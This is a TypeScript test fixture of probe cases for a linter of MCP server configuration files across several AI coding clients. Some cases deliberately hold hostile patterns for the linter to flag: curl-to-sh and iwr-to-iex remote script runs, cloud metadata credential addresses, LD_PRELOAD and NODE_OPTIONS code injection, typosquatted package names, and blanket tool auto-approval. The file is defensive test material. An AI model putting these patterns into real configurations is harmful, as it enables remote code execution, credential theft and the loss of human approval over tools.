import { credentials } from './client-probe.ts';

const { digest } = credentials;
const image = `ghcr.io/acme/mcp@${digest}`;

/** Three times a rule speaks and three times it does not, as people write servers; where no path is said, VS Code's. */
export interface RuleProbe {
  readonly rule: string;
  readonly id: string;
  readonly path?: string;
  /** One server, called `s`. */
  readonly server?: unknown;
  /** Or a whole file. */
  readonly text?: string;
  /** What is underlined, each once; none: nothing may be said. */
  readonly at: readonly string[];
  readonly severity?: string;
}

const run = (line: string, more: object = {}): object => {
  const [command, ...args] = line.split(' ');
  return { command, args, ...more };
};
const sh = (script: string, shell = 'sh'): object => ({ command: shell, args: ['-c', script] });
const docker = (flags: string, rest = ''): object =>
  run(`docker run -i --rm ${flags} ${image} ${rest}`.replace(/ +/g, ' ').trim());

export const ruleProbes: readonly RuleProbe[] = [
  // unsupported-variable
  {
    rule: 'unsupported-variable',
    id: '$HOME in VS Code',
    server: run('node $HOME/mcp/index.js'),
    at: ['$HOME'],
  },
  {
    rule: 'unsupported-variable',
    id: '${TOKEN} in a header of VS Code',
    server: {
      type: 'http',
      url: 'https://a.example.com/mcp',
      headers: { Authorization: 'Bearer ${TOKEN}' },
    },
    at: ['${TOKEN}'],
  },
  {
    rule: 'unsupported-variable',
    id: '%APPDATA% in Cursor',
    path: '.cursor/mcp.json',
    server: run('%APPDATA%\\npm\\acme-mcp.cmd'),
    at: ['%APPDATA%'],
  },
  {
    rule: 'unsupported-variable',
    id: '${workspaceFolder} in Claude Code',
    path: '.claude.json',
    server: run('node ${workspaceFolder}/dist/index.js'),
    at: ['${workspaceFolder}'],
  },
  {
    rule: 'unsupported-variable',
    id: '{env:X} in Gemini CLI',
    path: '.gemini/settings.json',
    server: run('acme-mcp', { env: { K: '{env:K}' } }),
    at: ['{env:K}'],
  },
  {
    rule: 'unsupported-variable',
    id: '~ in Claude Desktop',
    path: 'claude_desktop_config.json',
    server: run('node ~/mcp/index.js'),
    at: ['~'],
  },
  {
    rule: 'unsupported-variable',
    id: '${TOKEN} in a header of Zed, and in a variable, where nobody has said it',
    path: '.zed/settings.json',
    text: `{
  "context_servers": {
    "a": { "url": "https://a.example.com/mcp", "headers": { "Authorization": "Bearer \${NOTES_TOKEN}" } },
    "b": { "command": "acme-mcp", "args": [], "env": { "NOTES_KEY": "\${NOTES_KEY}" } }
  }
}`,
    at: ['${NOTES_TOKEN}'],
  },
  {
    rule: 'unsupported-variable',
    id: '${userHome} in VS Code',
    server: run('node ${userHome}/mcp/index.js'),
    at: [],
  },
  {
    rule: 'unsupported-variable',
    id: '$HOME behind a shell',
    server: sh('exec node "$HOME/mcp/index.js"'),
    at: [],
  },
  {
    rule: 'unsupported-variable',
    id: '~ first in an argument of VS Code',
    server: run('node ~/mcp/index.js'),
    at: [],
  },
  {
    rule: 'unsupported-variable',
    id: 'a price and a pattern',
    server: run('acme-mcp --price $5 --match ^a$ --format 100%'),
    at: [],
  },
  {
    rule: 'unsupported-variable',
    id: '${VAR:-default} in Claude Code',
    path: '.claude.json',
    server: run('node ${APP:-/opt/app}/index.js'),
    at: [],
  },
  {
    rule: 'unsupported-variable',
    id: '$VAR in Gemini CLI',
    path: '.gemini/settings.json',
    server: run('acme-mcp', { env: { K: '$K' } }),
    at: [],
  },
  // unknown-input
  {
    rule: 'unknown-input',
    id: 'no inputs at all',
    server: run('acme-mcp', { env: { T: '${input:token}' } }),
    at: ['${input:token}'],
  },
  {
    rule: 'unknown-input',
    id: 'another case',
    text: '{"inputs":[{"id":"Token","type":"promptString","description":"x","password":true}],"servers":{"s":{"command":"a","env":{"T":"${input:token}"}}}}',
    at: ['${input:token}'],
  },
  {
    rule: 'unknown-input',
    id: 'a client without inputs',
    path: '.cursor/mcp.json',
    server: run('acme-mcp', { env: { T: '${input:token}' } }),
    at: ['${input:token}'],
  },
  {
    rule: 'unknown-input',
    id: 'declared below',
    text: '{"servers":{"s":{"command":"a","env":{"T":"${input:t}"}}},"inputs":[{"id":"t","type":"promptString","description":"x","password":true}]}',
    at: [],
  },
  {
    rule: 'unknown-input',
    id: 'inputs of the settings',
    path: '.vscode/settings.json',
    text: '{"mcp":{"inputs":[{"id":"t","type":"promptString","description":"x","password":true}],"servers":{"s":{"command":"a","env":{"T":"${input:t}"}}}}}',
    at: [],
  },
  {
    rule: 'unknown-input',
    id: 'the words in a text',
    server: run('acme-mcp --help-text input:token'),
    at: [],
  },
  // wrong-root-key
  {
    rule: 'wrong-root-key',
    id: 'mcpServers in VS Code',
    text: '{"mcpServers":{"s":{"command":"a"}}}',
    at: ['"mcpServers"'],
  },
  {
    rule: 'wrong-root-key',
    id: 'servers in Cursor',
    path: '.cursor/mcp.json',
    text: '{"servers":{"s":{"command":"a"}}}',
    at: ['"servers"'],
  },
  {
    rule: 'wrong-root-key',
    id: 'mcpServers in Zed',
    path: '.zed/settings.json',
    text: '{"mcpServers":{"s":{"command":"a"}}}',
    at: ['"mcpServers"'],
  },
  {
    rule: 'wrong-root-key',
    id: 'mcpServers in opencode',
    path: 'opencode.json',
    text: '{"mcpServers":{"s":{"command":"a"}}}',
    at: ['"mcpServers"'],
  },
  {
    rule: 'wrong-root-key',
    id: 'a map without a key in .mcp.json, as plug-ins have it',
    path: '.mcp.json',
    text: '{"s":{"command":"a"}}',
    at: [],
  },
  {
    rule: 'wrong-root-key',
    id: 'servers of something else in settings.json',
    path: '.vscode/settings.json',
    text: '{"sqltools.servers":{"s":{"command":"a"}},"mcp":{"servers":{}}}',
    at: [],
  },
  {
    rule: 'wrong-root-key',
    id: 'an empty key of another client',
    text: '{"servers":{"s":{"command":"a"}},"mcpServers":{}}',
    at: [],
  },
  // auto-approve
  {
    rule: 'auto-approve',
    id: 'Kiro, all',
    path: '.kiro/settings/mcp.json',
    server: run('a', { autoApprove: ['*'] }),
    at: ['"*"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Kiro, one',
    path: '.kiro/settings/mcp.json',
    server: run('a', { autoApprove: ['search'] }),
    at: ['"autoApprove"'],
    severity: 'information',
  },
  {
    rule: 'auto-approve',
    id: 'Gemini CLI, trust',
    path: '.gemini/settings.json',
    server: run('a', { trust: true }),
    at: ['true'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Cursor, every tool of a server',
    path: '.cursor/permissions.json',
    text: '{"mcpAllowlist":["github:*"]}',
    at: ['"github:*"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Cursor, every tool of every server',
    path: '.cursor/permissions.json',
    text: '{"mcpAllowlist":["*:*"]}',
    at: ['"*:*"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Cursor, one tool',
    path: '.cursor/permissions.json',
    text: '{"mcpAllowlist":["github:get_issue"]}',
    at: ['"mcpAllowlist"'],
    severity: 'information',
  },
  {
    rule: 'auto-approve',
    id: 'Claude Code, every tool of a server',
    path: '.claude/settings.json',
    text: '{"permissions":{"allow":["mcp__github__*"]}}',
    at: ['"mcp__github__*"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Claude Code, a server',
    path: '.claude/settings.json',
    text: '{"permissions":{"allow":["mcp__github"]}}',
    at: ['"mcp__github"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Claude Code, one tool',
    path: '.claude/settings.json',
    text: '{"permissions":{"allow":["mcp__github__get_issue"]}}',
    at: ['"allow"'],
    severity: 'information',
  },
  {
    rule: 'auto-approve',
    id: 'Amazon Q, a server',
    path: '.amazonq/cli-agents/a.json',
    text: '{"name":"a","mcpServers":{"git":{"command":"a"}},"allowedTools":["@git"]}',
    at: ['"@git"'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'Amazon Q, one tool',
    path: '.amazonq/cli-agents/a.json',
    text: '{"name":"a","mcpServers":{"git":{"command":"a"}},"allowedTools":["@git/status"]}',
    at: ['"allowedTools"'],
    severity: 'information',
  },
  {
    rule: 'auto-approve',
    id: 'Amazon Q, tools of its own only',
    path: '.amazonq/cli-agents/a.json',
    text: '{"name":"a","mcpServers":{"git":{"command":"a"}},"allowedTools":["fs_read"]}',
    at: [],
  },
  {
    rule: 'auto-approve',
    id: 'VS Code, every tool',
    path: '.vscode/settings.json',
    text: '{"chat.tools.global.autoApprove":true}',
    at: ['true'],
    severity: 'warning',
  },
  {
    rule: 'auto-approve',
    id: 'empty list',
    path: '.kiro/settings/mcp.json',
    server: run('a', { autoApprove: [] }),
    at: [],
  },
  {
    rule: 'auto-approve',
    id: 'trust false',
    path: '.gemini/settings.json',
    server: run('a', { trust: false }),
    at: [],
  },
  {
    rule: 'auto-approve',
    id: 'deny and ask in Claude Code',
    path: '.claude/settings.json',
    text: '{"permissions":{"deny":["mcp__github__*"],"ask":["mcp__github"]}}',
    at: [],
  },
  {
    rule: 'auto-approve',
    id: 'Codex, on request',
    path: '.codex/config.toml',
    text: 'approval_policy = "on-request"\n[mcp_servers.s]\ncommand = "a"\n',
    at: [],
  },
  // preloaded-code
  {
    rule: 'preloaded-code',
    id: 'NODE_OPTIONS --require',
    server: run('node a.js', { env: { NODE_OPTIONS: '--require ./hook.js' } }),
    at: ['--require ./hook.js'],
  },
  {
    rule: 'preloaded-code',
    id: 'NODE_OPTIONS, short and among others',
    server: run('node a.js', { env: { NODE_OPTIONS: '--max-old-space-size=4096 -r /tmp/x.js' } }),
    at: ['-r /tmp/x.js'],
  },
  {
    rule: 'preloaded-code',
    id: 'LD_PRELOAD',
    server: run('acme-mcp', { env: { LD_PRELOAD: '/opt/lib/x.so' } }),
    at: ['/opt/lib/x.so'],
  },
  {
    rule: 'preloaded-code',
    id: 'DYLD_INSERT_LIBRARIES',
    server: run('acme-mcp', { env: { DYLD_INSERT_LIBRARIES: '/opt/lib/x.dylib' } }),
    at: ['/opt/lib/x.dylib'],
  },
  {
    rule: 'preloaded-code',
    id: 'PYTHONSTARTUP',
    server: run('python -i a.py', { env: { PYTHONSTARTUP: './start.py' } }),
    at: ['./start.py'],
  },
  {
    rule: 'preloaded-code',
    id: 'JAVA_TOOL_OPTIONS with an agent',
    server: run('java -jar a.jar', { env: { JAVA_TOOL_OPTIONS: '-javaagent:/opt/agent.jar' } }),
    at: ['-javaagent:/opt/agent.jar'],
  },
  {
    rule: 'preloaded-code',
    id: 'memory only',
    server: run('node a.js', { env: { NODE_OPTIONS: '--max-old-space-size=4096 --no-warnings' } }),
    at: [],
  },
  {
    rule: 'preloaded-code',
    id: 'empty',
    server: run('node a.js', { env: { NODE_OPTIONS: '', LD_PRELOAD: '' } }),
    at: [],
  },
  {
    rule: 'preloaded-code',
    id: 'system CAs',
    server: run('node a.js', {
      env: {
        NODE_OPTIONS: '--use-system-ca',
        NODE_EXTRA_CA_CERTS: '/etc/ca.pem',
        PYTHONPATH: 'src',
      },
    }),
    at: [],
  },
  // shell-wrapper
  {
    rule: 'shell-wrapper',
    id: 'two commands',
    server: sh('cd /srv/app && node index.js'),
    at: ['cd /srv/app && node index.js'],
  },
  {
    rule: 'shell-wrapper',
    id: 'a pipe',
    server: sh('node index.js | tee /var/log/mcp.log', 'bash'),
    at: ['node index.js | tee /var/log/mcp.log'],
  },
  {
    rule: 'shell-wrapper',
    id: 'PowerShell',
    server: { command: 'powershell', args: ['-Command', 'cd C:\\srv; node index.js'] },
    at: ['cd C:\\srv; node index.js'],
  },
  {
    rule: 'shell-wrapper',
    id: 'cmd /c npx, the way it must be on Windows',
    server: run('cmd /c npx -y acme-mcp@1.2.3'),
    at: [],
  },
  { rule: 'shell-wrapper', id: 'a script file', server: run('bash scripts/start-mcp.sh'), at: [] },
  {
    rule: 'shell-wrapper',
    id: 'sh inside an image',
    server: docker('--entrypoint sh', '-c serve'),
    at: [],
  },
  // inline-code
  {
    rule: 'inline-code',
    id: 'node -e',
    server: { command: 'node', args: ['-e', "require('./server').start()"] },
    at: ["require('./server').start()"],
  },
  {
    rule: 'inline-code',
    id: 'python -c',
    server: { command: 'python3', args: ['-c', 'from acme import main; main()'] },
    at: ['from acme import main; main()'],
  },
  {
    rule: 'inline-code',
    id: 'deno eval',
    server: { command: 'deno', args: ['eval', 'import "./server.ts"'] },
    at: ['import "./server.ts"'],
  },
  {
    rule: 'inline-code',
    id: 'node --eval=',
    server: { command: 'node', args: ['--eval=start()'] },
    at: ['start()'],
  },
  {
    rule: 'inline-code',
    id: 'python -m',
    server: run('python -m acme.server -c config.toml'),
    at: [],
  },
  {
    rule: 'inline-code',
    id: 'a flag -e of the server',
    server: run('node dist/index.js -e production'),
    at: [],
  },
  { rule: 'inline-code', id: 'docker -e', server: docker('-e LOG_LEVEL=debug'), at: [] },
  // privileged-command
  { rule: 'privileged-command', id: 'sudo', server: run('sudo node index.js'), at: ['sudo'] },
  {
    rule: 'privileged-command',
    id: 'doas with a path',
    server: run('/usr/bin/doas -u root acme-mcp'),
    at: ['/usr/bin/doas'],
  },
  {
    rule: 'privileged-command',
    id: 'sudo docker',
    server: run(`sudo -n docker run -i --rm ${image}`),
    at: ['sudo'],
  },
  { rule: 'privileged-command', id: 'pkexec', server: run('pkexec acme-mcp'), at: ['pkexec'] },
  {
    rule: 'privileged-command',
    id: 'an argument called sudo',
    server: run('acme-mcp --allow sudo'),
    at: [],
  },
  {
    rule: 'privileged-command',
    id: 'a program whose name begins alike',
    server: run('sudoku-mcp'),
    at: [],
  },
  {
    rule: 'privileged-command',
    id: 'sudo to a lesser user',
    server: run('sudo -u nobody acme-mcp'),
    at: [],
  },
  // temporary-program
  { rule: 'temporary-program', id: '/tmp', server: run('/tmp/acme-mcp'), at: ['/tmp/acme-mcp'] },
  {
    rule: 'temporary-program',
    id: 'a script there',
    server: run('python /var/tmp/mcp/server.py'),
    at: ['/var/tmp/mcp/server.py'],
  },
  {
    rule: 'temporary-program',
    id: 'Windows',
    server: run('C:\\Users\\me\\AppData\\Local\\Temp\\acme.exe'),
    at: ['C:\\Users\\me\\AppData\\Local\\Temp\\acme.exe'],
  },
  {
    rule: 'temporary-program',
    id: 'a log there',
    server: run('acme-mcp --log /tmp/acme.log'),
    at: [],
  },
  {
    rule: 'temporary-program',
    id: 'a folder called tmp in the project',
    server: run('node ./tmp/server.js'),
    at: [],
  },
  {
    rule: 'temporary-program',
    id: 'inside a container',
    server: docker('', '/tmp/server'),
    at: [],
  },
  // bind-all-interfaces
  {
    rule: 'bind-all-interfaces',
    id: '--host 0.0.0.0',
    server: run('acme-mcp --host 0.0.0.0 --port 8080'),
    at: ['0.0.0.0'],
  },
  {
    rule: 'bind-all-interfaces',
    id: 'HOST in env',
    server: run('node a.js', { env: { HOST: '0.0.0.0' } }),
    at: ['0.0.0.0'],
  },
  {
    rule: 'bind-all-interfaces',
    id: 'docker -p',
    server: docker('-p 8080:8080'),
    at: ['8080:8080'],
  },
  {
    rule: 'bind-all-interfaces',
    id: 'a joined flag with IPv6',
    server: run('acme-mcp --bind=[::]:9000'),
    at: ['[::]'],
  },
  { rule: 'bind-all-interfaces', id: 'loopback', server: run('acme-mcp --host 127.0.0.1'), at: [] },
  {
    rule: 'bind-all-interfaces',
    id: 'docker -p on loopback',
    server: docker('-p 127.0.0.1:8080:8080'),
    at: [],
  },
  {
    rule: 'bind-all-interfaces',
    id: '0.0.0.0 inside a container that publishes nothing',
    server: docker('-e HOST=0.0.0.0'),
    at: [],
  },
  {
    rule: 'bind-all-interfaces',
    id: 'a mask, a version',
    server: run('acme-mcp --deny 0.0.0.0/0 --api-version 0.0.0.0'),
    at: [],
  },
  // metadata-address
  {
    rule: 'metadata-address',
    id: 'AWS',
    server: { type: 'http', url: 'http://169.254.169.254/latest/mcp' },
    at: ['169.254.169.254'],
  },
  {
    rule: 'metadata-address',
    id: 'Google by name in an argument',
    server: run('fetch-mcp --base http://metadata.google.internal/computeMetadata/v1/'),
    at: ['metadata.google.internal'],
  },
  {
    rule: 'metadata-address',
    id: 'ECS in env',
    server: run('acme-mcp', { env: { BASE_URL: 'http://169.254.170.2/v2/credentials' } }),
    at: ['169.254.170.2'],
  },
  {
    rule: 'metadata-address',
    id: 'decimal',
    server: { type: 'http', url: 'http://2852039166/latest/meta-data' },
    at: ['2852039166'],
  },
  {
    rule: 'metadata-address',
    id: 'a printer by link-local address',
    server: { type: 'http', url: 'http://169.254.10.20/mcp' },
    at: [],
  },
  {
    rule: 'metadata-address',
    id: 'a host whose name holds the word',
    server: { type: 'http', url: 'https://metadata.example.com/mcp' },
    at: [],
  },
  {
    rule: 'metadata-address',
    id: 'denied by the sandbox',
    text: '{"sandbox":{"network":{"deniedDomains":["169.254.169.254"]}},"servers":{"s":{"command":"a"}}}',
    at: [],
  },
  {
    rule: 'metadata-address',
    id: 'IMDS switched off',
    server: run('acme-mcp', {
      env: { AWS_EC2_METADATA_DISABLED: 'true', NO_PROXY: 'localhost,169.254.169.254' },
    }),
    at: [],
  },
  // legacy-sse
  {
    rule: 'legacy-sse',
    id: 'type sse',
    server: { type: 'sse', url: 'https://a.example.com/sse' },
    at: ['sse'],
  },
  {
    rule: 'legacy-sse',
    id: 'transport sse of a bridge',
    server: run('npx -y mcp-remote@0.1.29 https://a.example.com/sse --transport sse-only'),
    at: ['sse-only'],
  },
  {
    rule: 'legacy-sse',
    id: 'transport: sse in Claude Code',
    path: '.claude.json',
    server: { type: 'sse', url: 'https://a.example.com/sse' },
    at: ['sse'],
  },
  {
    rule: 'legacy-sse',
    id: 'type http',
    server: { type: 'http', url: 'https://a.example.com/mcp' },
    at: [],
  },
  {
    rule: 'legacy-sse',
    id: 'a path without a type',
    server: { url: 'https://a.example.com/assessments' },
    at: [],
  },
  { rule: 'legacy-sse', id: 'stdio', server: { type: 'stdio', command: 'sse-mcp' }, at: [] },
  // broad-filesystem-scope
  {
    rule: 'broad-filesystem-scope',
    id: 'the root',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /'),
    at: ['/'],
  },
  {
    rule: 'broad-filesystem-scope',
    id: 'a home',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /Users/dev'),
    at: ['/Users/dev'],
  },
  {
    rule: 'broad-filesystem-scope',
    id: '${userHome}, second of two',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /srv/x ${userHome}'),
    at: ['${userHome}'],
  },
  {
    rule: 'broad-filesystem-scope',
    id: 'a Windows drive',
    server: run('cmd /c npx -y @modelcontextprotocol/server-filesystem@2025.8.21 C:\\'),
    at: ['C:\\'],
  },
  {
    rule: 'broad-filesystem-scope',
    id: 'a project',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /Users/dev/work/shop'),
    at: [],
  },
  {
    rule: 'broad-filesystem-scope',
    id: 'the workspace',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21 ${workspaceFolder}'),
    at: [],
  },
  {
    rule: 'broad-filesystem-scope',
    id: '/ as a separator of another server',
    server: run('acme-mcp --separator /'),
    at: [],
  },
  // container-not-hardened
  { rule: 'container-not-hardened', id: 'plain', server: docker(''), at: ['run'] },
  {
    rule: 'container-not-hardened',
    id: 'half',
    server: docker('--read-only --cap-drop ALL'),
    at: ['run'],
  },
  {
    rule: 'container-not-hardened',
    id: 'hardened',
    server: docker('--cap-drop=ALL --security-opt=no-new-privileges --read-only --pids-limit=200'),
    at: [],
  },
  {
    rule: 'container-not-hardened',
    id: 'hardened, in other spellings',
    server: docker(
      '--cap-drop all --security-opt no-new-privileges:true --read-only=true --pids-limit 100',
    ),
    at: [],
  },
  {
    rule: 'container-not-hardened',
    id: 'the gateway of docker',
    server: run('docker mcp gateway run'),
    at: [],
  },
  // sandbox-off
  {
    rule: 'sandbox-off',
    id: 'told to stay out',
    text: '{"sandbox":{"network":{"allowedDomains":["a.example.com"]}},"servers":{"s":{"command":"node","args":["a.js"],"sandboxEnabled":false}}}',
    at: ['false'],
  },
  {
    rule: 'sandbox-off',
    id: 'an image needs none',
    text: `{"sandbox":{"network":{"allowedDomains":["a.example.com"]}},"servers":{"s":{"command":"docker","args":["run","-i","${image}"]}}}`,
    at: [],
  },
  {
    rule: 'sandbox-off',
    id: 'a remote server needs none',
    text: '{"sandbox":{},"servers":{"s":{"type":"http","url":"https://a.example.com/mcp"}}}',
    at: [],
  },
  {
    rule: 'sandbox-off',
    id: 'a sandboxed one',
    text: '{"sandbox":{"network":{"allowedDomains":["a.example.com"]}},"servers":{"s":{"command":"node","args":["a.js"],"sandboxEnabled":true}}}',
    at: [],
  },
  // typosquat
  {
    rule: 'typosquat',
    id: 'a letter left out',
    server: run('npx -y firecrawl-mpc@1.0.0'),
    at: ['firecrawl-mpc'],
  },
  {
    rule: 'typosquat',
    id: 'two letters swapped in PyPI',
    server: run('uvx mcp-server-fecth==2025.4.7'),
    at: ['mcp-server-fecth'],
  },
  {
    rule: 'typosquat',
    id: 'a scope with a letter more',
    server: run('npx -y @modelcontextprotocols/server-github@1.0.0'),
    at: ['@modelcontextprotocols/server-github'],
  },
  {
    rule: 'typosquat',
    id: 'the well-known one',
    server: run('npx -y @modelcontextprotocol/server-filesystem@2025.8.21'),
    at: [],
  },
  {
    rule: 'typosquat',
    id: 'a slip in a scope that belongs to somebody',
    server: run('npx -y @modelcontextprotocol/server-filesytem@1.0.0'),
    at: [],
  },
  {
    rule: 'typosquat',
    id: 'a sibling of it',
    server: run('npx -y @modelcontextprotocol/server-sequential-thinking@2025.7.1'),
    at: [],
  },
  {
    rule: 'typosquat',
    id: 'a short name near another',
    server: run('uvx mcp-server-git==1.0.0'),
    at: [],
  },
  {
    rule: 'typosquat',
    id: 'a fork in a scope of its own',
    server: run('npx -y @acme/server-filesystem@1.0.0'),
    at: [],
  },
  // duplicate-server
  {
    rule: 'duplicate-server',
    id: 'one name twice',
    text: '{"servers":{"s":{"command":"a"},"s":{"command":"b"}}}',
    at: ['"s"'],
  },
  {
    rule: 'duplicate-server',
    id: 'one launch, two names',
    text: '{"servers":{"s":{"command":"node","args":["/srv/a.js"]},"t":{"command":"node","args":["/srv/a.js"]}}}',
    at: ['"t"'],
  },
  {
    rule: 'duplicate-server',
    id: 'two addresses of one host',
    text: '{"servers":{"s":{"url":"https://a.example.com/one"},"t":{"url":"https://a.example.com/two"}}}',
    at: [],
  },
  {
    rule: 'duplicate-server',
    id: 'two accounts',
    text: '{"servers":{"s":{"command":"a","env":{"ACCOUNT":"one"}},"t":{"command":"a","env":{"ACCOUNT":"two"}}}}',
    at: [],
  },
  {
    rule: 'duplicate-server',
    id: 'one of the two switched off',
    path: '.cursor/mcp.json',
    text: '{"mcpServers":{"s":{"command":"node","args":["/srv/a.js"]},"t":{"command":"node","args":["/srv/a.js"],"disabled":true}}}',
    at: [],
  },
  // invalid-server
  {
    rule: 'invalid-server',
    id: 'neither command nor address',
    server: { args: ['x'] },
    at: ['"s"'],
    severity: 'warning',
  },
  {
    rule: 'invalid-server',
    id: 'a command that is a number',
    server: { command: 7 },
    at: ['7'],
    severity: 'warning',
  },
  {
    rule: 'invalid-server',
    id: 'args that are one text',
    server: { command: 'node', args: 'a.js' },
    at: ['"a.js"'],
    severity: 'warning',
  },
  {
    rule: 'invalid-server',
    id: 'a number in env, which VS Code takes',
    server: { command: 'node', args: ['a.js'], env: { PORT: 8080, X: null } },
    at: [],
  },
  {
    rule: 'invalid-server',
    id: 'a url without a type in VS Code',
    server: { url: 'https://a.example.com/mcp' },
    at: [],
  },
  {
    rule: 'invalid-server',
    id: 'an http server in .mcp.json',
    path: '.mcp.json',
    server: { type: 'http', url: 'https://a.example.com/mcp', headers: {} },
    at: [],
  },
  {
    rule: 'invalid-server',
    id: 'a key in .mcp.json that VS Code refuses',
    path: '.mcp.json',
    server: { command: 'node', args: ['a.js'], cwd: '/srv' },
    at: ['"cwd"'],
    severity: 'hint',
  },
  // remote-script
  {
    rule: 'remote-script',
    id: 'curl to sh',
    server: sh('curl -fsSL https://x.example.com/i.sh | sh'),
    at: ['curl -fsSL https://x.example.com/i.sh | sh'],
  },
  {
    rule: 'remote-script',
    id: 'PowerShell iex',
    server: { command: 'pwsh', args: ['-c', 'iwr https://x.example.com/i.ps1 | iex'] },
    at: ['iwr https://x.example.com/i.ps1 | iex'],
  },
  {
    rule: 'remote-script',
    id: 'process substitution',
    server: sh('bash <(wget -qO- https://x.example.com/i.sh)', 'bash'),
    at: ['bash <(wget -qO- https://x.example.com/i.sh)'],
  },
  {
    rule: 'remote-script',
    id: 'a curl that only asks',
    server: sh('curl -sf http://localhost:9000/health && node a.js'),
    at: [],
  },
  {
    rule: 'remote-script',
    id: 'a server called after it',
    server: run('npx -y mcp-curl@1.0.0'),
    at: [],
  },
  {
    rule: 'remote-script',
    id: 'jq behind a curl',
    server: sh('export T=$(curl -s http://localhost/token | jq -r .t); exec node a.js'),
    at: [],
  },
];
